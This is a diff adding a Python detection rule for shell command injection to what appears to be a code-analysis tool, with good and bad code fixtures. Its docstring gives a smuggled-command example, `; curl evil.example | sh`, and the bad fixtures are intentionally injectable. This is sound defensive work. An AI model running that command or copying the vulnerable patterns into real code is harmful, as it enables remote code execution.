@@ -1,0 +1,95 @@
+"""Text from outside becomes part of a program that a shell runs.
+
+Why: a shell, or AppleScript, does not know which part of its text was meant as data.
+Scenario: a name holds `; curl evil.example | sh`, or a quote that ends the string in the script.
+Impact: {subject} runs it with every right of the process.
+Detection: nothing shows it before the damage; afterwards, children of the service that nobody started.
+Fix: pass a list and no shell, `subprocess.run(["tar", "xf", name])`; where a shell is needed, `shlex.quote(name)`; give
+    AppleScript its data as arguments: `osascript -e 'on run argv' … -e 'end run' name`.
+Monitoring: audit of processes that the service starts.
+Blind to: programs that take a list and start a shell themselves.
+Source: https://owasp.org/www-community/attacks/Command_Injection
+"""
+
+from collections.abc import Iterator
+
+from roadworthy.findings import Verdict, met, unclear, unmet
+from roadworthy.ladder import Failure, Pillar, Property, Rung, Severity
+from roadworthy.model import System, Unknown
+from roadworthy.rules.rule import rule
+
+BAD = {
+    "app.py": """
+import os
+import subprocess
+
+
+def unpack(name):
+    os.system(f"tar xf {name}")  # unmet
+
+
+def notify(title):
+    script = f'display notification "{title}"'
+    subprocess.run(["osascript", "-e", script], timeout=5)  # unmet
+
+
+def run(command):
+    return subprocess.run(command, shell=True, timeout=5)  # unclear
+""",
+}
+GOOD = {
+    "chaos.py": """
+import shlex
+import subprocess
+
+CONTAINER = "llm"
+
+
+def run(command):
+    return subprocess.run(command, shell=True, timeout=5)
+
+
+def kill():
+    run("docker kill llm")
+    run(f"docker start {CONTAINER}")
+
+
+def unpack(name):
+    subprocess.run(f"tar xf {shlex.quote(name)}", shell=True, timeout=5)  # met
+
+
+def plain(name):
+    subprocess.run(["tar", "xf", name], timeout=5)
+
+
+def count(words: list):
+    subprocess.run(f"head -n {len(words)} /etc/hosts", shell=True, timeout=5)
+""",
+}
+
+
+@rule(
+    rung=Rung.FOUNDATIONS,
+    pillar=Pillar.SECURITY,
+    severity=Severity.HIGH,
+    failure=Failure.MISCONFIGURATION,
+    property=Property.OUTPUT_CORRECTNESS,
+    bad=BAD,
+    good=GOOD,
+)
+def shell_injection(system: System) -> Iterator[Verdict]:
+    """Asks every text that a shell takes apart and into which something is put."""
+    for command in system.shell_commands:
+        match command.inserts:
+            case Unknown(why):
+                yield unclear(command, why)
+            case str() as what:
+                yield unmet(
+                    command, f"puts {what} into {_article(command.language)} {command.language} program unquoted"
+                )
+            case None if command.is_quoted:
+                yield met(command, "quotes what it puts into the command")
+
+
+def _article(language: str) -> str:
+    return "an" if language[0] in "AEIOU" else "a"
